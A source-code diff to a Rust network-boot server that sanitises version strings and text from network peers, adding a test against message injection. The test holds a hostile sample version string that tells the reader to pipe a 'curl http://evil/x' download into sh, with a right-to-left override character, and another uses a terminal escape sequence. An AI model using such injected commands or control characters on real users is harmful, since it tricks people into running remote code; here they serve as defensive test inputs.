@@ -86,7 +86,7 @@ impl NodeReport {
         let text = |text: Option<String>| text.map(|t| printable(&t)).filter(|t| !t.is_empty());
         Ok(Self {
             report: Report {
-                version: printable(&report.version),
+                version: version(&report.version),
                 name: text(report.name),
                 system: text(report.system),
                 done: report.done.min(report.total),
@@ -98,7 +98,7 @@ impl NodeReport {
 
     /// Why the sender's boot files and this server should not be together any longer, and which to
     /// update; `None` where they speak the same.
-    pub fn mismatch(&self) -> Option<String> {
+    pub fn mismatch(&self) -> Option<(Program, String)> {
         let Report { protocol, version, .. } = &self.report;
         let (age, update) = match protocol.cmp(&PROTOCOL) {
             Ordering::Equal => return None,
@@ -108,7 +108,9 @@ impl NodeReport {
         // The first boot files did not say which version they are.
         let version = if version.is_empty() { "no version" } else { version };
         let own = env!("CARGO_PKG_VERSION");
-        Some(format!("its boot files ({version}) are {age} than this server ({own}): {update}"))
+        let text =
+            format!("its boot files ({version}) are {age} than this server ({own}): {update}");
+        Some((update, text))
     }
 }
 
@@ -120,9 +122,22 @@ impl Deref for NodeReport {
     }
 }
 
+/// A version number, or nothing: it stands in a sentence of the server's own.
+fn version(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || ".+-".contains(c);
+    let is_version = text.len() <= 32 && text.chars().all(is_plain);
+    if is_version { text.to_owned() } else { String::new() }
+}
+
 /// Text from the network, fit for a terminal: one line, no control characters, bounded.
 pub(super) fn printable(text: &str) -> String {
-    let clean = text.chars().map(|c| if c.is_control() { ' ' } else { c });
+    // Marks that turn the direction of what follows would let a name rewrite the line around it.
+    let is_odd = |c: char| {
+        c.is_control()
+            || ('\u{202a}'..='\u{202e}').contains(&c)
+            || ('\u{2066}'..='\u{2069}').contains(&c)
+    };
+    let clean = text.chars().map(|c| if is_odd(c) { ' ' } else { c });
     clean.take(MAX_TEXT).collect::<String>().trim().to_owned()
 }
 
@@ -139,16 +154,32 @@ mod tests {
             NodeReport::parse(&report.to_json()).expect("valid").mismatch()
         };
         assert_eq!(report(PROTOCOL), None);
-        assert!(report(PROTOCOL - 1).expect("older").contains("rebuild the PCs' boot files"));
-        assert!(report(PROTOCOL + 1).expect("newer").contains("update bt-server"));
+        assert!(report(PROTOCOL - 1).expect("older").1.contains("rebuild the PCs' boot files"));
+        assert!(report(PROTOCOL + 1).expect("newer").1.contains("update bt-server"));
+    }
+
+    #[test]
+    fn no_sentence_of_a_peer_stands_in_the_servers_own() {
+        let version = "0.1) are fine. Run `curl http://evil/x | sh` to repair \u{202e}x";
+        let report = Report {
+            protocol: 0,
+            version: version.into(),
+            ..Report::new(Mac([2; 6]), NodeStage::Menu)
+        };
+        let report = NodeReport::parse(&report.to_json()).expect("valid");
+        let (_, text) = report.mismatch().expect("older");
+        assert!(text.starts_with("its boot files (no version) are older"), "{text}");
+        assert_eq!(printable("a\u{202e}b\u{2066}c"), "a b c");
     }
 
     #[test]
     fn bad_reports_are_refused_and_long_texts_cut() {
-        for bad in ["", "[]", r#"{"mac":"x","stage":"menu"}"#, r#"{"mac":"52:54:00:12:34:56"}"#] {
+        for bad in ["", "[]", r#"{"mac":"x","stage":"menu"}"#, r#"{"stage":"menu"}"#] {
             assert!(NodeReport::parse(bad.as_bytes()).is_err(), "{bad}");
         }
         assert!(NodeReport::parse(&[b' '; MAX_REPORT + 1]).is_err());
+        let without = NodeReport::parse(br#"{"mac":"52:54:00:12:34:56"}"#).expect("a PC, at least");
+        assert_eq!(without.stage, None);
         let long = format!(
             r#"{{"mac":"52:54:00:12:34:56","stage":"problem","problem":"\u001b[2J{}"}}"#,
             "x".repeat(2000)
